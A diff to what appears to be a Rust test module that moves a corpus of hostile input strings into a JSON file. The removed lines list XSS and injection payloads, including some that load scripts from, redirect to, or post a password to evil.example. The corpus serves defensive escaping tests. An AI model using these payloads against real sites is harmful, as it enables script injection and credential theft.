@@ -1,73 +1,12 @@
 //! What people write who want a page to do something for them.
 
-/// Texts that break out of somewhere if a page takes them as they are.
-pub(super) const CORPUS: &[&str] = &[
-    // Elements.
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\n>alert(1)</script\t>",
-    "<script/src=data:,alert(1)>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src/onerror=alert(1)//",
-    "<image src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script href=data:,alert(1) />",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
-    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=//evil.example>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import'//evil.example/x.css'</style>",
-    "<form action=//evil.example><input name=password>",
-    "<button formaction=//evil.example>Go on</button>",
-    "<details open ontoggle=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<a href=javascript:alert(1)>here</a>",
-    "<b>bold</b>",
-    // Ends of what a page had begun.
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "</main></body><script>alert(1)</script>",
-    "--><script>alert(1)</script><!--",
-    "<!--",
-    "]]><script>alert(1)</script>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    // Ends of attributes.
-    "\" onfocus=alert(1) autofocus x=\"",
-    "' onfocus=alert(1) autofocus x='",
-    "\"><script>alert(1)</script>",
-    "\" formaction=//evil.example type=submit x=\"",
-    "\"\n onmouseover\n=\nalert(1) x=\"",
-    // Text that is told by its signs to be something else.
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "&quot; onfocus=alert(1) x=&quot;",
-    "&amp;quot;",
-    "&colon;&Tab;&lpar;",
-    // What is seen is not what is there.
-    "Mira\u{202e}nimda\u{202c}",
-    "\u{2067}admin\u{2069}",
-    "\u{0}<script>alert(1)</script>",
-    "<scr\u{0}ipt>alert(1)</script>",
-    "\u{1b}[31mred\u{7}",
-    "\u{9b}31m",
-    "\u{feff}<script>alert(1)</script>",
-    // What a template would work out.
-    "{{7*7}}",
-    "${7*7}",
-    "#{7*7}",
-    "<%= 7*7 %>",
-    "{% 7*7 %}",
-    "{0} {} {name}",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)",
-];
+use std::sync::LazyLock;
+
+/// Texts that break out of somewhere if a page takes them as they are. The desktop's windows are tried with the same ones.
+pub(super) static CORPUS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    serde_json::from_str(include_str!("../../../../tests/corpus/hostile-text.json"))
+        .expect("is a list of texts")
+});
 
 /// Texts that are one only where they begin an address.
 pub(super) const ADDRESSES: &[&str] = &[
